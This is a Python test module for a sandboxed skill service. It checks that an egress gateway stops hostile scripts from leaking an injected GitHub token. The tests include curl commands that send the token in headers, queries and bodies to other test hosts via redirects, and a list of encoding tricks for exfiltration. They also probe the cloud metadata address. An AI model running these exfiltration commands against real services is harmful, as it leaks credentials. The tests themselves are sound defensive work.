"""Attacks on the egress gateway and its secrets, from hostile skills run by the real service in
real sandboxes (runc, bwrap) through the real gateway (mitmproxy, .venv-egress), toward loopback
upstreams under made-up names (SKILL_EXECUTOR_EGRESS_HOSTS; HTTPS with a test CA in
SKILL_EXECUTOR_EGRESS_CA_BUNDLE, and one plain-HTTP name).

The skill's script is tests/service/hostile_skill.py (raw sockets through the bridge, so that no
client library tidies a request up); it prints statuses and refusals, never what it stole (a hash
of it). The upstreams keep every request they got and the TLS server names they were asked for:
what must never reach them is asserted there, not only on what the run says."""

from __future__ import annotations

import base64
import hashlib
import json
import os
import secrets
import ssl
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import httpx
import pytest

from skill_executor.egress import rules

from ..api_server import Server
from ..conftest import require_runtime
from .test_egress_gateway import egress_python, make_upstream_certs

KEY = "egress-attacks-key"
SECRET = "ghs_ATTACK" + secrets.token_hex(16)  # the search in the sandbox looks for its first characters
FORMS = {"GITHUB_TOKEN": rules.secret_forms(SECRET)}
HOSTILE = (Path(__file__).parent / "hostile_skill.py").read_text()
POLICY = """
rules:
  - name: hostile
    key: "*"
    skill: math-tools
    egress:
      allow: [api.example.test, files.example.test, plain.example.test, "*.wild.example.test", localhost]
      inject:
        - host: api.example.test
          header: Authorization
          value: "Bearer {secret:GITHUB_TOKEN}"
      methods: [GET, POST]
      max_response_bytes: 10000
      max_connections: 4
  - name: sockets
    key: "*"
    skill: file-bundle
    egress:
      allow: [files.example.test]
      websocket: true
      max_requests: 5
"""
TLS_NAMES = ["api.example.test", "files.example.test", "denied.example.test", "other.example.test"]

pytestmark = pytest.mark.skipif(
    egress_python() is None, reason="no egress environment (scripts/test.sh makes .venv-egress)"
)


class Seen:
    """What the upstreams got: requests (complete or not) and TLS server names."""

    lock = threading.Lock()
    requests: list[dict[str, Any]] = []
    server_names: list[str | None] = []

    @classmethod
    def since(cls, mark: int) -> list[dict[str, Any]]:
        with cls.lock:
            return list(cls.requests[mark:])

    @classmethod
    def mark(cls) -> int:
        with cls.lock:
            return len(cls.requests)


class Upstream(BaseHTTPRequestHandler):
    """/echo answers the request's headers as JSON (a reflecting API: the hostile skill's way to
    the secret); /sink and /landing answer ``ok``; /redirect?to=URL redirects; /size/N and
    /chunked/N answer N bytes; /ws accepts a WebSocket upgrade."""

    protocol_version = "HTTP/1.1"
    disable_nagle_algorithm = True

    def handle_any(self) -> None:
        entry: dict[str, Any] = {
            "tls": isinstance(self.connection, ssl.SSLSocket),
            "method": self.command,
            "path": self.path,
            "headers": [f"{k}: {v}" for k, v in self.headers.items()],
            "body": b"",
            "complete": False,
        }
        with Seen.lock:
            Seen.requests.append(entry)
        try:
            if self.headers.get("transfer-encoding", "").lower() == "chunked":
                while True:
                    size = int(self.rfile.readline().split(b";")[0], 16)
                    if size == 0:
                        while (line := self.rfile.readline()) not in (b"\r\n", b""):
                            entry["headers"].append("trailer " + line.decode("latin-1").strip())
                        if not line:
                            return
                        break
                    chunk = self.rfile.read(size + 2)
                    if len(chunk) < size + 2:
                        return
                    entry["body"] += chunk[:size]
            else:
                length = int(self.headers.get("content-length") or 0)
                entry["body"] = self.rfile.read(length) if length else b""
                if len(entry["body"]) < length:
                    return
        except (OSError, ValueError):
            return
        entry["complete"] = True
        path = self.path
        if path.startswith("/ws") and self.headers.get("upgrade", "").lower() == "websocket":
            accept = base64.b64encode(
                hashlib.sha1(
                    (self.headers["sec-websocket-key"] + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11").encode()
                ).digest()
            ).decode()
            self.send_response(101)
            self.send_header("upgrade", "websocket")
            self.send_header("connection", "Upgrade")
            self.send_header("sec-websocket-accept", accept)
            self.end_headers()
            self.close_connection = True
            return
        if path.startswith("/redirect?to="):
            self.send_response(302)
            self.send_header("location", path.split("=", 1)[1])
            self.send_header("content-length", "0")
            self.end_headers()
            return
        if path.startswith("/chunked/"):
            total = int(path.split("/")[2])
            self.send_response(200)
            self.send_header("transfer-encoding", "chunked")
            self.end_headers()
            try:
                while total > 0:
                    n = min(4096, total)
                    self.wfile.write(b"%x\r\n" % n + b"y" * n + b"\r\n")
                    total -= n
                self.wfile.write(b"0\r\n\r\n")
            except OSError:
                pass
            return
        if path.startswith("/size/"):
            payload = b"x" * int(path.split("/")[2])
        elif path.startswith("/echo"):
            payload = json.dumps({"headers": {k.title(): v for k, v in self.headers.items()}}).encode()
        else:
            payload = b"ok\n"
        self.send_response(200)
        self.send_header("content-length", str(len(payload)))
        self.end_headers()
        self.wfile.write(payload)

    do_GET = do_POST = do_PUT = handle_any

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture(scope="module")
def upstreams(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[int, int, Path]]:
    folder = tmp_path_factory.mktemp("egress-attack-upstream")
    ca, pem = make_upstream_certs(folder)
    secure = ThreadingHTTPServer(("127.0.0.1", 0), Upstream)
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    context.load_cert_chain(pem)

    def server_name(sock: Any, name: str | None, ctx: Any) -> None:
        with Seen.lock:
            Seen.server_names.append(name)

    context.sni_callback = server_name
    secure.socket = context.wrap_socket(secure.socket, server_side=True)
    plain = ThreadingHTTPServer(("127.0.0.1", 0), Upstream)
    for server in (secure, plain):
        threading.Thread(target=server.serve_forever, daemon=True).start()
    yield secure.server_address[1], plain.server_address[1], ca
    secure.shutdown()
    plain.shutdown()


@pytest.fixture(scope="module", params=["docker", "bwrap"])
def server(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, upstreams: tuple[int, int, Path]
) -> Iterator[Server]:
    runtime = str(request.param)
    require_runtime(runtime)
    secure, plain, ca = upstreams
    base = tmp_path_factory.mktemp(f"egress-attacks-{runtime}")
    (base / "policy.yaml").write_text(POLICY)
    (base / "secrets.yaml").write_text("GITHUB_TOKEN: env:EGRESS_ATTACK_TOKEN\n")
    hosts = {name: f"127.0.0.1:{secure}" for name in TLS_NAMES}
    hosts["plain.example.test"] = f"127.0.0.1:{plain}"
    env = {
        "SKILL_EXECUTOR_API_KEYS": KEY,
        "SKILL_EXECUTOR_POLICY_FILE": str(base / "policy.yaml"),
        "SKILL_EXECUTOR_SECRETS_FILE": str(base / "secrets.yaml"),
        "SKILL_EXECUTOR_EGRESS_PYTHON": str(egress_python()),
        "SKILL_EXECUTOR_EGRESS_CA_BUNDLE": str(ca),
        "SKILL_EXECUTOR_EGRESS_HOSTS": json.dumps(hosts),
        "EGRESS_ATTACK_TOKEN": SECRET,
        "SKILL_EXECUTOR_POOL_SIZE": "1",
        "SKILL_EXECUTOR_RUNTIME": runtime,
    }
    if runtime == "bwrap":
        env["SKILL_EXECUTOR_WORKSPACE_ROOT"] = str(base / "workspaces")
        if os.geteuid() == 0:
            for folder in (base, *base.parents):
                os.chmod(folder, os.stat(folder).st_mode | 0o001)
    srv = Server(base, env=env).start(timeout=60)
    yield srv
    srv.stop()
    assert SECRET not in "\n".join(srv.log_lines())  # the service's log, the audit lines, the gateway's stderr


def run(server: Server, skill: str, attack: str, command: str = "python3 -", **extra: Any) -> dict[str, Any]:
    """A run of the hostile script; its record with ``out`` (what the script printed), ``events``
    (the live ``egress`` events) and ``raw`` (the SSE stream and the record, as text)."""
    body = {"skill": skill, "command": command, "stdin": HOSTILE, "timeout": 120, **extra}
    body["env"] = {"ATTACK": attack, "SERVICE_PORT": str(server.port), **extra.get("env", {})}
    with httpx.Client(base_url=server.url, headers={"Authorization": f"Bearer {KEY}"}, timeout=180) as client:
        accepted = client.post("/v1/runs", params={"wait": "false"}, json=body)
        assert accepted.status_code == 202, accepted.text
        run_id = accepted.json()["run_id"]
        events, raw, kind = [], "", None
        with client.stream("GET", f"/v1/runs/{run_id}/events") as stream:
            for line in stream.iter_lines():
                raw += line + "\n"
                if line.startswith("event: "):
                    kind = line[7:]
                elif line.startswith("data: ") and kind == "egress":
                    events.append(json.loads(line[6:]))
        record = client.get(f"/v1/runs/{run_id}")
        assert record.status_code == 200, record.text
    found = record.json()
    assert found["status"] == "completed", found
    result = found["result"]
    lines = [line for line in result["stdout"].splitlines() if line.startswith("{")]
    assert lines, (result["stdout"], result["stderr"])
    found.update(out=json.loads(lines[-1]), events=events, raw=raw + record.text)
    assert SECRET not in found["raw"]  # stdout, stderr, output files, events, the record
    assert result["egress"] == events
    return found


def carries_secret(data: bytes | str) -> bool:
    blob = data.encode("latin-1") if isinstance(data, str) else data
    return SECRET.encode() in blob or rules.find_secret(blob, FORMS) is not None


def header(entry: dict[str, Any], name: str) -> list[str]:
    """The values of the header ``name`` an upstream got (any case: HTTP/2 clients send lower case)."""
    found = [line.split(": ", 1) for line in entry["headers"]]
    return [value for key, value in found if key.lower() == name.lower()]


def refused(answer: list[Any], *words: str) -> bool:
    status, body = answer
    return (
        status == 403
        and "skill-executor egress:" in body
        and "(rule 'hostile')" in body
        and all(w in body for w in words)
    )


def test_the_secret_is_nowhere_inside_the_run(server: Server) -> None:
    mark = Seen.mark()
    command = (
        "curl -sS -o /dev/null -w 'sink=%{http_code}\\n' https://api.example.test/sink; "
        'mkdir -p out; env > out/env.txt; echo "GH=$GITHUB_TOKEN" > out/gh.txt; ps aux >&2; python3 -'
    )
    found = run(server, "math-tools", "search", command=command, outputs={"globs": ["out/*"]})
    out, result = found["out"], found["result"]
    assert "sink=200" in result["stdout"]
    # the injection happened: the upstream got the value, the run never
    (sink,) = [r for r in Seen.since(mark) if r["path"] == "/sink"]
    assert header(sink, "authorization") == [f"Bearer {SECRET}"]
    assert out["hits"] == [] and out["env"] == [], out
    assert out["read"] > 100  # it did look: files of the image, /run, /etc, /tmp, the workspace, /proc
    assert out["run"] == ["egress", "egress-ca.pem"]
    files = {Path(f["name"]).name: f for f in result["output_files"]}
    assert set(files) >= {"env.txt", "gh.txt"}
    assert "GH=se-placeholder-" in json.dumps(files["gh.txt"])
    # the audit log has the request (checked for the secret when the service stops)
    assert any(
        f"egress {found['run_id']} GET api.example.test/sink: allowed 200" in line for line in server.log_lines()
    )
    # nothing of the service's on the host holds it either (the gateway got it over its socket)
    # (os.walk: a finished run's workspace may be going meanwhile; what is gone holds nothing)
    for folder, _, names in os.walk(server.data_dir, onerror=lambda _: None):
        for name in names:
            path = Path(folder) / name
            if path.is_file() and not path.is_symlink():
                try:
                    assert SECRET.encode() not in path.read_bytes(), path
                except (PermissionError, FileNotFoundError):
                    pass


def test_a_reflected_secret_cannot_be_sent_to_another_allowed_host(server: Server) -> None:
    mark = Seen.mark()
    found = run(server, "math-tools", "exfil")
    out = found["out"]
    digest = hashlib.sha256(SECRET.encode()).hexdigest()
    # the reflection works: what an upstream answers is its business (responses are not scrubbed)
    assert out["stolen"] == digest and out["echoed"] == digest
    caught = [
        "header", "authorization", "basic", "header-name", "query", "path", "percent-all", "percent-lower",
        "percent-some", "percent-twice", "body", "body-form", "body-json", "body-percent", "body-chunked",
        "b64-0", "b64-1", "b64-2", "b64url-1", "b64-chunked", "hex", "HEX", "gzip", "gzip-chunked", "deflate",
        "plain-query", "plain-body",
    ]  # fmt: skip
    for name in caught:
        status, body = out[name]
        if name in ("body-chunked", "b64-chunked", "gzip-chunked"):
            # a streamed body: the scan stops it on its way, the connection is cut
            assert status != 200, (name, out[name])
        else:
            assert refused(out[name], "carries secret GITHUB_TOKEN"), (name, out[name])
        assert SECRET not in body
    assert refused(out["brotli"], "cannot be checked"), out["brotli"]
    assert out["trailer"][0] != 200, out["trailer"]
    assert refused(out["hostname"], "host name carries secret GITHUB_TOKEN"), out["hostname"]
    # not caught, as the threat model says: a transformation of the skill's own, or pieces
    assert out["reversed"][0] == 200 and [h[0] for h in out["halves"]] == [200, 200]
    # what reached the second host: only those, complete; nothing else, not even in part
    got = [r for r in Seen.since(mark) if not r["path"].startswith("/echo")]
    complete = sorted(r["path"].split("?")[1][:2] for r in got if r["complete"])
    assert complete == ["a=", "b=", "t="], [(r["path"], r["complete"]) for r in got]
    for entry in got:
        assert not carries_secret(entry["path"] + "\n".join(entry["headers"])), entry
        assert not carries_secret(entry["body"]), entry
    denied = [e for e in found["events"] if e["decision"] == "denied"]
    assert len(denied) >= len(caught) and all(SECRET not in json.dumps(e) for e in found["events"])
    assert any("secret GITHUB_TOKEN" in (e["reason"] or "") for e in denied)


REDIRECTS = r"""
set -u
A='https://api.example.test/redirect?to='
curl -sS -o /dev/null -L -H "Authorization: Bearer $GITHUB_TOKEN" "${A}https://files.example.test/landing1"
curl -sS -o /dev/null -L --location-trusted -H "Authorization: Bearer $GITHUB_TOKEN" -H "X-Key: $GITHUB_TOKEN" "${A}https://files.example.test/landing2"
curl -sS -L "${A}https://denied.example.test/landing3"; echo " denied=$?"
curl -sS -o /dev/null -L "${A}http://plain.example.test/landing4"
python3 -c "
import os, requests, urllib.request
requests.get('${A}https://files.example.test/landing5', headers={'Authorization': 'Bearer ' + os.environ['GITHUB_TOKEN']})
urllib.request.urlopen(urllib.request.Request('${A}https://files.example.test/landing6', headers={'Authorization': 'Bearer ' + os.environ['GITHUB_TOKEN']})).read()
"
curl -sS -H "Authorization: Bearer $GITHUB_TOKEN" https://files.example.test/echo; echo
curl -sS -o /dev/null -H "Authorization: Bearer $GITHUB_TOKEN" "http://plain.example.test/landing7"
curl -sS -o /dev/null "https://api.example.test/sink?t=$GITHUB_TOKEN" -d "b=$GITHUB_TOKEN"
echo '{}'
"""


def test_redirects_and_placeholders_never_carry_the_secret_elsewhere(server: Server) -> None:
    mark = Seen.mark()
    found = run(server, "math-tools", "-", command=REDIRECTS, stdin=None)
    stdout = found["result"]["stdout"]
    assert "denied=56" in stdout, stdout  # curl: the CONNECT was refused (403)
    (denied,) = [e for e in found["events"] if e["host"] == "denied.example.test"]
    assert (denied["method"], denied["status"], denied["decision"]) == ("CONNECT", 403, "denied")
    got = Seen.since(mark)
    landed = {r["path"]: r for r in got if r["path"].startswith("/landing")}
    assert set(landed) == {f"/landing{i}" for i in (1, 2, 4, 5, 6, 7)}, sorted(landed)
    for entry in landed.values():  # the redirect's target, whatever the client sent along
        assert not carries_secret("\n".join(entry["headers"]) + entry["path"]), entry
    # curl --location-trusted sent the run's header along: the placeholder, not replaced
    assert header(landed["/landing2"], "authorization")[0].startswith("Bearer se-placeholder-"), landed["/landing2"]
    assert header(landed["/landing2"], "x-key")[0].startswith("se-placeholder-"), landed["/landing2"]
    # over plain HTTP, toward a host that is not the secret's: the placeholder stays
    assert header(landed["/landing7"], "authorization")[0].startswith("Bearer se-placeholder-")
    assert '"Authorization": "Bearer se-placeholder-' in stdout  # the echo of files.example.test
    # toward the secret's own host, only headers are replaced: the URL and the body keep the placeholder
    (sink,) = [r for r in got if r["path"].startswith("/sink")]
    assert "t=se-placeholder-" in sink["path"] and sink["body"].startswith(b"b=se-placeholder-")
    assert header(sink, "authorization") == [f"Bearer {SECRET}"]
    assert not carries_secret(sink["path"]) and not carries_secret(sink["body"])


def test_denied_hosts_addresses_and_ports_are_refused(server: Server) -> None:
    mark = Seen.mark()
    found = run(server, "math-tools", "destinations")
    out = found["out"]
    for key, answer in out.items():
        name = key.split(" ", 1)[1]
        if name == "LOCALHOST":  # a name the rule lists: let through, then its address is judged
            assert answer[0] == (200 if key.startswith("connect") else 502) and (
                key.startswith("connect") or "resolves to no public address" in answer[1]
            ), (key, answer)
        elif key in ("tunnel localhost", "plain localhost"):
            assert answer[0] == 502 and "resolves to no public address" in answer[1], (key, answer)
        elif name.endswith((f":{server.port}", ":8443", ":22")) and not name.startswith(("127.", "[")):
            assert refused(answer, "port"), (key, answer)
        else:
            assert refused(answer), (key, answer)
    assert refused(out["connect 127.0.0.1"], "an IP address not listed")
    assert refused(out["connect 169.254.169.254"], "an IP address not listed")
    assert refused(out["connect denied.example.test"], "denied.example.test is not in the allow-list")
    assert Seen.since(mark) == []  # no upstream got anything
    assert all(e["decision"] == "denied" for e in found["events"])
    assert {e["host"] for e in found["events"]} >= {"denied.example.test", "169.254.169.254", "2130706433"}


def test_host_and_server_name_mismatches_upgrades_and_response_caps(server: Server) -> None:
    mark, names = Seen.mark(), len(Seen.server_names)
    found = run(server, "math-tools", "mismatch")
    out = found["out"]
    for key in (
        "sni denied", "sni denied host api", "sni files host files", "host denied", "host files",
        "no sni host denied", "no sni host files", "absolute denied", "two hosts", "plain url vs host",
        "plain host vs url", "plain two hosts",
    ):  # fmt: skip
        assert refused(out[key]), (key, out[key])
    # origin-form to the proxy: its Host header is its destination, judged like any other
    assert out["plain origin-form"][0] == 200, out["plain origin-form"]
    assert refused(out["websocket"], "upgrade to 'websocket' is not allowed")
    assert refused(out["h2c"], "upgrade to 'h2c' is not allowed")
    assert out["sized"][0] == 502 and "max_response_bytes" in out["sized"][1]
    status, length, finished = out["chunked"]
    assert status == 200 and length < 11_000 and not finished  # cut: an incomplete body
    got = Seen.since(mark)
    assert sorted(r["path"] for r in got) == ["/chunked/50000", "/sink", "/size/50000"], got
    assert [r["tls"] for r in got if r["path"] == "/sink"] == [False]  # the plain origin-form one
    with Seen.lock:
        assert set(Seen.server_names[names:]) == {"api.example.test"}  # never a denied name upstream
    result = found["result"]
    assert "egress_response_bytes" in result["limits_hit"]
    limited = [e for e in found["events"] if e["decision"] == "limited"]
    assert {e["path"] for e in limited} == {"/size/50000", "/chunked/50000"}
    assert all(e["limit"] == "egress_response_bytes" for e in limited)


def test_connection_and_request_caps_and_websockets_where_allowed(server: Server) -> None:
    found = run(server, "math-tools", "caps")
    out = found["out"]
    assert [t[0] for t in out["tunnels"]] == [200] * 4 + [403] * 2, out
    assert "cap of 4 connections" in out["tunnels"][-1][1]
    assert out["after"][0] == 200  # the closed tunnels were counted down
    assert sorted(out["plain"]) == [200] * 4 + [403] * 2, out
    assert "egress_connections" in found["result"]["limits_hit"]
    limited = [e for e in found["events"] if e["decision"] == "limited"]
    assert len(limited) == 4 and all(e["limit"] == "egress_connections" for e in limited)
    found = run(server, "file-bundle", "requests")
    assert found["out"]["statuses"] == [200] * 5 + [403] * 2
    assert "egress_requests" in found["result"]["limits_hit"]
    found = run(server, "file-bundle", "websocket")
    assert found["out"]["websocket"][0] == 101  # websocket: true


def test_a_run_cannot_use_another_runs_credentials(server: Server) -> None:
    first = run(server, "math-tools", "token")
    old = first["out"]["token"]
    found = run(server, "math-tools", "tokens", env={"OLD_TOKEN": old})
    out = found["out"]
    assert out["own"][0] == 200
    for key in ("revoked", "guessed", "none", "bearer", "plain none", "plain revoked", "switch"):
        assert out[key][0] == 407 and "proxy credentials" in out[key][1], (key, out[key])
    assert old not in json.dumps([e for e in found["events"]])


def test_a_run_without_an_egress_rule_reaches_nothing(server: Server) -> None:
    mark = Seen.mark()
    found = run(server, "csv-report", "nothing")
    out = found["out"]
    assert out["proxy"] == [] and out["dns"] == "gaierror"
    assert all(value != "connected" for key, value in out.items() if key.startswith("(")), out
    assert found["events"] == [] and Seen.since(mark) == []
